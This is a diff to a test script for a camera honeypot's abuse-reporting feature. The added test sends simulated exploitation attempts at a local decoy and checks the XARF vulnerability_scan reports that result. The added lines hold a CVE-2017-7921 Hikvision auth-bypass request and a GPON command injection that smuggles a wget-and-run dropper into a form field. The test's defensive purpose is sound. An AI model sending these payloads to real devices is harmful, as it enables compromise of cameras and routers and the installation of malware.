@@ -6,7 +6,9 @@
 # credential, and the other under its own AS; its rows agree with the raw
 # logins; `--format xarf --asn 15169` writes XARF v4 login_attack reports
 # that a validator in this test accepts (required fields, formats, the
-# evidence's base64 and SHA-256), about AS15169's address only.
+# evidence's base64 and SHA-256), about AS15169's address only; its
+# exploitation attempts (CVE-2017-7921 twice, a GPON dropper) a
+# connection/vulnerability_scan notice whose figures are the raw rows'.
 . "$(dirname "$0")/lib.sh"
 
 start_decoy --persona hikvision --trust-proxy 127.0.0.1/32 --event-rate 0 || { finish; exit 1; }
@@ -21,6 +23,14 @@ check "the view is from 8.8.8.8 in AS15169" \
 curl -s -o /dev/null -u "$user:$pass" -H "X-Forwarded-For: 8.8.8.8" -A abuse-login "$BASE/ISAPI/Security/userCheck"
 curl -s -o /dev/null -u $'admin\x1b[31m:12345' -H "X-Forwarded-For: 203.0.113.5" "$BASE/ISAPI/Security/userCheck"
 wait_sql "SELECT COUNT(*) FROM logins" 2
+# exploitation attempts from 8.8.8.8: CVE-2017-7921 twice, a GPON injection with a dropper
+for i in 1 2; do
+	curl -s -o /dev/null -H "X-Forwarded-For: 8.8.8.8" "$BASE/Security/users?auth=YWRtaW46MTEK&n=$i"
+done
+# shellcheck disable=SC2016 # the backquotes are the attacker's, sent as they are
+curl -s -o /dev/null -H "X-Forwarded-For: 8.8.8.8" --data-binary \
+	'XWebPageName=diag&dest_host=`wget http://198.51.100.99/m -O /tmp/g`;sh /tmp/g' "$BASE/GponForm/diag_Form?images/"
+wait_sql "SELECT COUNT(*) FROM exploits WHERE src_ip = '8.8.8.8'" 3
 stop_decoy
 
 "$REPORT" --db "$DB" --format json abuse >"$TMP/abuse.json"
@@ -75,9 +85,10 @@ def when(s):
 def contact(c):
     return (isinstance(c, dict) and set(c) == {"org", "contact", "domain"} and 0 < len(c["org"]) <= 200
             and re.fullmatch(r"[^@\s]+@[^@\s]+\.[a-z]+", c["contact"]) and re.fullmatch(r"[a-z0-9.-]+\.[a-z]+", c["domain"]))
-want("one notice per address of AS15169 (%d)" % len(lines), len(lines) == 1)
+want("a login notice and an exploitation notice for AS15169's address (%d)" % len(lines), len(lines) == 2)
 for l in lines:
     r = json.loads(l)
+    login = r["type"] == "login_attack"
     req = ["xarf_version", "report_id", "timestamp", "reporter", "sender", "source_identifier", "category", "type",
            "protocol", "first_seen"]
     want("required fields", all(k in r for k in req))
@@ -85,8 +96,11 @@ for l in lines:
     want("report_id is a UUID v4", uuid.UUID(r["report_id"]).version == 4)
     want("times are ISO 8601 with a zone", when(r["timestamp"]) and when(r["first_seen"]) and when(r["last_seen"]))
     want("reporter and sender", contact(r["reporter"]) and contact(r["sender"]))
-    want("connection / login_attack over tcp", r["category"] == "connection" and r["type"] == "login_attack"
-         and r["protocol"] == "tcp")
+    want("connection / login_attack or vulnerability_scan over tcp", r["category"] == "connection"
+         and r["type"] in ("login_attack", "vulnerability_scan") and r["protocol"] == "tcp")
+    want("a vulnerability_scan's scan_type, total_requests and CVEs", login or (r["scan_type"] == "vulnerability_scan"
+         and isinstance(r["total_requests"], int) and r["total_requests"] >= 1
+         and all(isinstance(v, str) for v in r["vulnerabilities_probed"])))
     want("about 8.8.8.8 only", r["source_identifier"] == "8.8.8.8" and "203.0.113.5" not in l)
     want("confidence in [0, 1], a honeypot", 0 <= r["confidence"] <= 1 and r["evidence_source"] == "honeypot")
     want("tags namespaced", all(re.fullmatch(r"[a-z0-9][a-z0-9_+-]*:[a-z0-9][a-z0-9_+.-]*", t) for t in r["tags"]))
@@ -96,12 +110,40 @@ for l in lines:
         body = base64.b64decode(e["payload"], validate=True)
         want("evidence hash matches its payload", e["hash"] == "sha256:" + hashlib.sha256(body).hexdigest())
         want("evidence size", e["size"] == len(body))
-        want("the evidence says the credential was only in our picture", b"shown only in the decoy's picture" in body)
+        want("the evidence says the credential was only in our picture", not login or b"shown only in the decoy's picture" in body)
 sys.exit(checks.status())
 PY
 rc=$?
 cat "$TMP/xarf.out"
 check "the XARF notice validates" [ "$rc" = 0 ]
+# the exploitation notice's figures recomputed from the raw exploits rows
+python3 - "$TMP/xarf.jsonl" "$DB" <<'PY' >"$TMP/xarfx.out" 2>&1
+import base64, json, re, sqlite3, sys
+import camclient
+checks = camclient.Checks()
+want = checks.want
+db = sqlite3.connect(sys.argv[2])
+raw = db.execute("SELECT rule, COUNT(*), strftime('%Y-%m-%dT%H:%M:%SZ', MIN(ts) / 1000, 'unixepoch'),"
+                 " strftime('%Y-%m-%dT%H:%M:%SZ', MAX(ts) / 1000, 'unixepoch'), IFNULL(MAX(cve), '')"
+                 " FROM exploits WHERE asn = 15169 GROUP BY rule ORDER BY rule").fetchall()
+url = db.execute("SELECT ioc_urls FROM exploits WHERE asn = 15169 AND ioc_urls IS NOT NULL ORDER BY ts, id").fetchone()
+x = [json.loads(l) for l in open(sys.argv[1]) if '"vulnerability_scan"' in l]
+want("an exploitation notice for 8.8.8.8", len(x) == 1 and x[0]["source_identifier"] == "8.8.8.8")
+r = x[0]
+body = base64.b64decode(r["evidence"][0]["payload"]).decode()
+mine = [(m[4], int(m[3]), m[1], m[2], m[5] or "") for m in
+        re.finditer(r"^(\S+) \.\. (\S+) (\d+) attempt\(s\) of rule ([^,;\n]+)(?:, (CVE-[0-9-]+))?", body, re.M)]
+print(raw, mine, sep="\n")
+want("per rule its attempts, first and last seen, CVE as the raw rows say", mine == raw)
+want("total_requests is the raw rows' count", r["total_requests"] == sum(n for _, n, _, _, _ in raw))
+want("first/last seen", r["first_seen"] == min(f for _, _, f, _, _ in raw) and r["last_seen"] == max(l for _, _, _, l, _ in raw))
+want("the CVEs probed", sorted(r["vulnerabilities_probed"]) == sorted({c or ru for ru, _, _, _, c in raw}))
+want("the dropper's URL is the sample indicator", url is not None and ("URLs: " + url[0]) in body)
+sys.exit(checks.status())
+PY
+rc=$?
+cat "$TMP/xarfx.out"
+check "the exploitation notice says what the raw exploits rows say" [ "$rc" = 0 ]
 "$REPORT" --db "$DB" report --out "$TMP/report" >/dev/null
 check "report --out writes the abuse table too" grep -q '^15169,"GOOGLE",.*,"8.8.8.8",' "$TMP/report/abuse.csv"
 finish
